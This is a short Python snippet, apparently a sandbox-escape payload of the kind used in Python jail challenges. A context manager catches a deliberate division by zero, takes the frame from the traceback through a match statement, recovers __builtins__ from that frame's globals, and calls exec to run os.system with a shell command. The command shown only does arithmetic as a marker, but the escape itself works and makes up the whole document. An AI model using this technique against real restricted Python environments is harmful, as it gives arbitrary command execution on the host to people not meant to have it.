class C:
    def __enter__(s): return s
    def __exit__(s,t,v,tb):
        match tb:
            case object(tb_frame=f): f.f_globals["__builtins__"].exec("import os;os.system('expr 40 + 1001')")
        return True
with C(): 1/0
